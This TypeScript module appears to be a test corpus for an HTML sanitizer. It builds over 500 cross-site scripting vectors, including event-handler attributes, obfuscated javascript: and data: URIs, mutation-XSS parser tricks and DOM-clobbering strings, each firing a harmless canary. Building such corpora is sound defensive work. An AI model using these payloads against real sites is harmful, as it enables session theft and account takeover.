/** What runs when a vector works. */
const canary = 'window.__xss=1';

const handlers = [
  'onerror',
  'onload',
  'onclick',
  'onmouseover',
  'onfocus',
  'onanimationstart',
  'ontoggle',
  'onbegin',
  'onpointerenter',
  'onbeforetoggle',
  'oncontentvisibilityautostatechange',
];
const carriers = [
  (attribute: string) => `<img src=x ${attribute}>`,
  (attribute: string) => `<svg ${attribute}><circle r=5 /></svg>`,
  (attribute: string) => `<svg><animate ${attribute} attributeName=x dur=1s></svg>`,
  (attribute: string) => `<input autofocus ${attribute}>`,
  (attribute: string) => `<details open ${attribute}><summary>x</summary></details>`,
  (attribute: string) => `<video><source ${attribute}></video>`,
  (attribute: string) => `<audio src=x ${attribute}></audio>`,
  (attribute: string) => `<body ${attribute}>x`,
  (attribute: string) => `<div style="animation:a 1s;content-visibility:auto" ${attribute}>x</div>`,
  (attribute: string) => `<marquee ${attribute}>x</marquee>`,
  (attribute: string) => `<math ${attribute}><mi>x</mi></math>`,
];
const quotings = [
  (text: string) => `"${text}"`,
  (text: string) => `'${text}'`,
  (text: string) => text,
  (text: string) => `"${text.replace(/./g, (c) => `&#${c.charCodeAt(0)};`)}"`,
];

const addresses = [
  'javascript:',
  'JaVaScRiPt:',
  ' javascript:',
  'java\tscript:',
  'java\nscript:',
  '\u0001javascript:',
  '&#106;avascript:',
  '&#x6A;avascript&colon;',
  'vbscript:',
  'data:text/html,<script>',
];
const linking = [
  (to: string) => `<a href="${to}${canary}">x</a>`,
  (to: string) => `<form action="${to}${canary}"><button>x</button></form>`,
  (to: string) => `<button formaction="${to}${canary}">x</button>`,
  (to: string) => `<iframe src="${to}${canary}"></iframe>`,
  (to: string) => `<embed src="${to}${canary}">`,
  (to: string) => `<object data="${to}${canary}"></object>`,
  (to: string) => `<svg><a xlink:href="${to}${canary}"><text y=9>x</text></a></svg>`,
  (to: string) => `<math href="${to}${canary}">x</math>`,
  (to: string) => `<area href="${to}${canary}">`,
  (to: string) => `<link rel=stylesheet href="${to}${canary}">`,
];

/** Text that the parser reads one way and the page, once it is put there, another. */
const mutating = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${canary}&gt;">`,
  `<svg></p><style><a id="</style><img src=x onerror=${canary}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${canary}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${canary}>`,
  `<template><img src=x onerror=${canary}></template>`,
  `<xmp><p title="</xmp><img src=x onerror=${canary}>">`,
  `<textarea><p title="</textarea><img src=x onerror=${canary}>">`,
  `<select><template><img src=x onerror=${canary}></template></select>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${canary}</script>"></iframe></foreignObject></svg>`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${canary}></style></annotation-xml></math>`,
  `<svg><style>&lt;img src=x onerror=${canary}&gt;</style></svg>`,
  `<!--><img src=x onerror=${canary}>-->`,
  `<![CDATA[><img src=x onerror=${canary}>]]>`,
  `<svg><![CDATA[</svg><img src=x onerror=${canary}>]]></svg>`,
  `<div><template shadowrootmode=open><script>${canary}</script></template></div>`,
  `<script>${canary}</script>`,
  `<scr<script>ipt>${canary}</scr</script>ipt>`,
  `<svg><script>${canary}</script></svg>`,
  `<svg><script href="data:text/javascript,${canary}"></script></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${canary}'/></svg>#x"></use></svg>`,
  `<svg><set attributeName=href to="javascript:${canary}" /><a id=x><text>x</text></a></svg>`,
  `<iframe srcdoc="<script>parent.${canary}</script>"></iframe>`,
  `<object type="text/html" data="data:text/html,<script>parent.${canary}</script>"></object>`,
  `<base href="javascript:${canary}//"><a href="x">x</a>`,
  `<meta http-equiv=refresh content="0;url=javascript:${canary}">`,
  `<link rel=import href="data:text/html,<script>${canary}</script>">`,
  `<style>@import 'javascript:${canary}';</style>`,
  `<div style="background:url(javascript:${canary})">x</div>`,
  `<img name=permutive id=permutive><a id=googletag><a id=googletag name=cmd>`,
  `<form name=__proto__><input name=constructor></form>`,
  `<form id=x><input name=attributes><input name=parentNode></form><img src=x onerror=${canary}>`,
];

/** More than 500 ways to make html act. */
export const hostileHtml: readonly string[] = [
  ...handlers.flatMap((handler) =>
    carriers.flatMap((carrier) => quotings.map((quote) => carrier(`${handler}=${quote(canary)}`))),
  ),
  ...addresses.flatMap((address) => linking.map((link) => link(address))),
  ...mutating,
];
